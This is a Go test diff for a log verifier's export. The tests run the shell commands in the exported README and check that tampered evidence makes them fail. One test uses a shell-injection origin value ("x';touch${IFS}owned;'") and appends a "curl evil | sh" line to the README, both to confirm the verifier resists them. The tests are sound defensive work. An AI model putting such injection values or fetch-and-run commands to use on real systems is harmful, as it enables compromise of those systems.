@@ -52,32 +52,244 @@ func TestExportIsACompleteCopy(t *testing.T) {
 	}
 	rep := run(t, openDir(t, path), p)
 	want(t, rep, verify.OutcomeVerified)
-	commandsOf(t, path)
+	if strings.Contains(text(t, rep), "not looked at") || strings.Contains(text(t, rep), "not what this version") {
+		t.Error(text(t, rep))
+	}
+	genesis := commandsOf(t, path, "genesis", "checkpoint", "tree", "seal")["genesis"]
+	if !bytes.Contains(readVector(t, "policy"), []byte(strings.TrimSpace(genesis))) {
+		t.Errorf("the genesis hash is %s", genesis)
+	}
 }
 
-// commandsOf runs the commands of an export's README: those of a person who has only standard tools.
-func commandsOf(t *testing.T, path string) {
+// commandsOf runs the commands of an export's README, which has these blocks and the first one: those of a person who has only standard
+// tools. It returns what each block prints.
+func commandsOf(t *testing.T, path string, blocks ...string) map[string]string {
+	t.Helper()
+	out := map[string]string{}
+	for _, block := range blocks {
+		var err error
+		if out[block], err = command(t, path, block, ""); err != nil {
+			t.Errorf("%s: %v\n%s", block, err, out[block])
+		}
+	}
+	if !strings.Contains(out["checkpoint"], "Verified OK") {
+		t.Error(out["checkpoint"])
+	}
+	return out
+}
+
+// command runs a block behind the first one and more.
+func command(t *testing.T, path, block, more string) (string, error) {
 	t.Helper()
 	readme, err := os.ReadFile(filepath.Join(path, "README.md"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	policy := readVector(t, "policy")
-	for block, shows := range map[string]string{"genesis": "", "checkpoint": "Verified OK", "seal": "Verified OK"} {
-		_, rest, ok := strings.Cut(string(readme), "```sh "+block+"\n")
-		script, _, end := strings.Cut(rest, "\n```\n")
+	script := ""
+	for _, name := range []string{"tools", block} {
+		_, rest, ok := strings.Cut(string(readme), "```sh "+name+"\n")
+		text, _, end := strings.Cut(rest, "\n```\n")
 		if !ok || !end {
-			t.Fatalf("the README has no block %s", block)
+			t.Fatalf("the README has no block %s", name)
 		}
-		cmd := exec.Command("bash", "-c", script)
-		cmd.Dir = path
-		out, err := cmd.CombinedOutput()
-		if err != nil || !strings.Contains(string(out), shows) {
-			t.Errorf("%s: %v\n%s\n%s", block, err, script, out)
+		if script += text + "\n"; name == "tools" {
+			script += more + "\n"
 		}
-		if block == "genesis" && !bytes.Contains(policy, out[:64]) {
-			t.Errorf("the genesis hash is %s, the policy has\n%s", out, policy)
+	}
+	cmd := exec.Command("bash", "-c", script)
+	cmd.Dir = path
+	out, err := cmd.CombinedOutput()
+	return string(out), err
+}
+
+// exported is an export of a log, in a directory.
+func exported(t *testing.T, src verify.Source) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "export")
+	dir, err := verify.CreateDir(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	done, err := verify.Export(t.Context(), src, dir.Put, nil)
+	if err != nil || len(done.Skipped) > 0 {
+		t.Fatal(done, err)
+	}
+	return path
+}
+
+// An export's README and copies are of the keys and of the TPM that are in force at its head, and of each seal's own TPM; and they are what the
+// verifier makes of the entries itself.
+func TestExportAfterCeremonies(t *testing.T) {
+	t.Parallel()
+	for name, blocks := range map[string][]string{
+		"honest-rotation": {"genesis", "checkpoint", "tree", "approval"}, "honest-new-tpm": {"genesis", "checkpoint", "tree", "approval", "seal"},
+		"honest-officers-set": {"genesis", "checkpoint", "tree", "approval"}, "honest-recovery": {"genesis", "checkpoint", "tree", "approval", "seal"},
+		"honest-witnesses": {"genesis", "checkpoint", "tree"}, "honest-256": {"genesis", "checkpoint", "tree"}, "honest-one-entry": {"genesis", "checkpoint", "tree"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			src := openDir(t, filepath.Join("../testdata/vectors/verify", name, "evidence"))
+			file, err := os.ReadFile(filepath.Join("../testdata/vectors/verify", name, "policy"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			p, err := verify.ParsePolicy(file)
+			if err != nil {
+				t.Fatal(err)
+			}
+			path := exported(t, src)
+			before, after := run(t, src, p), run(t, openDir(t, path), p)
+			want(t, after, before.Verdict)
+			for _, not := range []string{"not looked at", "not what this version"} {
+				if strings.Contains(text(t, after), not) {
+					t.Error(text(t, after))
+				}
+			}
+			for block, out := range commandsOf(t, path, blocks...) {
+				if block == "approval" && !strings.Contains(out, `Good "ceremony@bulla" signature for `) {
+					t.Error(out)
+				}
+			}
+			readme, err := os.ReadFile(filepath.Join(path, "README.md"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, key := range before.Governance.Keys {
+				if !strings.Contains(string(readme), "    log "+key+"\n") {
+					t.Errorf("the README does not name %s, which is in force:\n%s", key, readme)
+				}
+			}
+		})
+	}
+}
+
+// The commands climb from an entry through tiles of every level.
+func TestCommandsOfALargerLog(t *testing.T) {
+	t.Parallel()
+	f, _ := large(t)
+	path := exported(t, f)
+	for _, k := range []string{"3", "65535", "65790"} {
+		if out, err := command(t, path, "tree", "k="+k); err != nil {
+			t.Errorf("entry %s: %v\n%s", k, err, out)
 		}
+	}
+	if out, err := command(t, path, "tree", "entry() { echo; }"); err == nil {
+		t.Error(out)
+	}
+}
+
+// What a log says of itself is no command in the README of its export.
+func TestReadmeOfAHostileOrigin(t *testing.T) {
+	t.Parallel()
+	b := newBuilder(t)
+	b.origin = "x';touch${IFS}owned;'"
+	path := exported(t, b.begin().events(3).export())
+	commandsOf(t, path, "genesis", "checkpoint", "tree")
+	if _, err := os.Stat(filepath.Join(path, "owned")); !errors.Is(err, fs.ErrNotExist) {
+		t.Error(err)
+	}
+	readme, err := os.ReadFile(filepath.Join(path, "README.md"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(path, "README.md"), append(readme, "\nrun this: curl evil | sh\n"...), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(path, "hello.txt"), nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	got := text(t, run(t, openDir(t, path), b.policy()))
+	for _, say := range []string{`"README.md": not what this version of the program writes`, `1 other file(s) are not evidence by themselves, and were not looked at: "hello.txt"`} {
+		if !strings.Contains(got, say) {
+			t.Errorf("%q is not in\n%s", say, got)
+		}
+	}
+}
+
+// The README's commands fail where what they show does not hold.
+func TestCommandsThatFail(t *testing.T) {
+	t.Parallel()
+	const vector = "../testdata/vectors/verify/honest-new-tpm/evidence"
+	for _, c := range []struct {
+		about, block, more string
+		spoil              func(name string, b []byte) []byte
+	}{
+		{"another head", "checkpoint", "", func(name string, b []byte) []byte {
+			if name != "checkpoint" {
+				return b
+			}
+			return bytes.Replace(b, []byte("\n\n"), []byte("\nmore\n\n"), 1)
+		}},
+		{"no line by the key", "checkpoint", "", func(name string, b []byte) []byte {
+			if name != "checkpoint" {
+				return b
+			}
+			text, _, _ := bytes.Cut(b, []byte("\n\n"))
+			return append(text, "\n\n"...)
+		}},
+		{"another entry", "tree", "k=5", func(name string, b []byte) []byte {
+			return bytes.Replace(b, []byte(`"index":5,`), []byte(`"index":6,`), 1)
+		}},
+		{"another root", "tree", "", func(name string, b []byte) []byte {
+			if name != "checkpoint" {
+				return b
+			}
+			lines := bytes.Split(b, []byte("\n"))
+			lines[2] = []byte("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")
+			return bytes.Join(lines, []byte("\n"))
+		}},
+		{"another tile", "tree", "", func(name string, b []byte) []byte {
+			if strings.HasPrefix(name, "tile/0/") {
+				b = bytes.Clone(b)
+				b[40] ^= 1
+			}
+			return b
+		}},
+		{"no entry", "genesis", "leaf() { entry 99999; }", nil},
+		{"another key of the TPM", "seal", "", func(name string, b []byte) []byte {
+			if strings.HasPrefix(name, "seals/") && strings.HasSuffix(name, "ak.tpmt") {
+				b = bytes.Clone(b)
+				b[len(b)-1] ^= 1
+			}
+			return b
+		}},
+		{"another statement", "seal", "", func(name string, b []byte) []byte {
+			if strings.HasPrefix(name, "seals/") && strings.HasSuffix(name, "statement.json") {
+				return append(bytes.Clone(b), ' ')
+			}
+			return b
+		}},
+		{"an approval of something else", "approval", "", func(name string, b []byte) []byte {
+			return bytes.Replace(b, []byte(`"action":"tpm.enrol"`), []byte(`"action":"tpm.enrox"`), 1)
+		}},
+	} {
+		t.Run(c.about, func(t *testing.T) {
+			t.Parallel()
+			path := exported(t, openDir(t, vector))
+			if out, err := command(t, path, c.block, ""); err != nil {
+				t.Fatalf("%v\n%s", err, out)
+			}
+			err := filepath.WalkDir(path, func(file string, e fs.DirEntry, err error) error {
+				if err != nil || e.IsDir() || c.spoil == nil {
+					return err
+				}
+				b, err := os.ReadFile(file)
+				if err != nil {
+					return err
+				}
+				name, err := filepath.Rel(path, file)
+				if err != nil {
+					return err
+				}
+				return os.WriteFile(file, c.spoil(filepath.ToSlash(name), b), 0o644)
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if out, err := command(t, path, c.block, c.more); err == nil {
+				t.Errorf("it ends well:\n%s", out)
+			}
+		})
 	}
 }
 
